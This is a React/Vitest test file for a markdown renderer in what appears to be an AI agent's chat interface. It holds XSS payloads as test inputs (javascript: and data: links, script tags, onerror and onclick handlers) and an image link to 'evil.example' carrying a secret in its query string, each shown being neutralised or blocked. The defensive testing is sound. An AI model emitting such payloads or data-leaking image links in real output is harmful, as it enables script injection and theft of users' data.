// SPDX-License-Identifier: MIT
import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { expect, test } from 'vitest';
import { answer, asked, expectAccessible, problem, startFakeDaemon } from '../../test/page';
import { splitBlocks } from './markdown-blocks';
import { MarkdownView } from './markdown-view';

test('links say where they lead and carry no referrer', () => {
  render(<MarkdownView text="See [the manual](https://docs.example.org/a) and <https://example.org>." />);
  const link = screen.getByRole('link', { name: 'the manual' });
  expect(link.getAttribute('rel')).toContain('noreferrer');
  expect(link.getAttribute('target')).toBe('_blank');
  expect(screen.getByText('(docs.example.org)')).toBeTruthy();
  expect(screen.getAllByRole('link')).toHaveLength(2);
});

test.each([
  ['[x](javascript:alert(1))'],
  ['<script>alert(1)</script>'],
  ['<img src=x onerror=alert(1)>'],
  ['[x](/settings)'],
  ['<button onclick="x()">Allow once</button>'],
  ['[x](data:text/html,<script>1</script>)'],
])('%s makes nothing that acts', (text) => {
  const { container } = render(<MarkdownView text={text} />);
  expect(container.querySelector('a, script, img, button, iframe, style')).toBeNull();
});

test('a remote picture waits for a click, and the daemon fetches it', async () => {
  startFakeDaemon();
  answer('POST /api/v1/images/fetch', problem(403, 'PRYX-1403', 'The policy denies it.'));
  const { container } = render(
    <QueryClientProvider client={new QueryClient()}>
      <MarkdownView text="![chart](https://evil.example/c.png?secret)" session="ses_1" message="msg_1" />
    </QueryClientProvider>,
  );
  expect(container.querySelector('img')).toBeNull();
  await userEvent.click(screen.getByRole('button', { name: /evil\.example/ }));
  expect(await screen.findByText('Not loaded: The policy denies it.')).toBeTruthy();
  expect(asked[0]?.body).toEqual({
    url: 'https://evil.example/c.png?secret',
    session_id: 'ses_1',
    message_id: 'msg_1',
  });
  expect(container.querySelector('img')).toBeNull();
});

test('code can be copied, tables and lists are what they are', async () => {
  const { container } = render(
    <MarkdownView text={'```py\nx = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] open'} />,
  );
  expect(screen.getByText('py')).toBeTruthy();
  expect(container.querySelector('pre')?.textContent).toBe('x = 1\n');
  expect(screen.getByRole('table')).toBeTruthy();
  expect(screen.getByRole('button', { name: 'Copy the code' })).toBeTruthy();
  await expectAccessible(container);
});

test('an unfinished tail is closed', () => {
  const { container } = render(<MarkdownView streaming text={'Some **bold tex'} />);
  expect(container.querySelector('strong')?.textContent).toBe('bold tex');
});

test('blocks are cut where nothing before can change', () => {
  expect(splitBlocks('a\n\nb')).toEqual(['a\n', 'b']);
  expect(splitBlocks('```\nx\n\ny\n```\n\nz')).toEqual(['```\nx\n\ny\n```\n', 'z']);
  expect(splitBlocks('- a\n\n- b\n\n  more\n\nend')).toEqual(['- a\n\n- b\n\n  more\n', 'end']);
  expect(splitBlocks('````\n```\n\nx\n````')).toHaveLength(1);
});
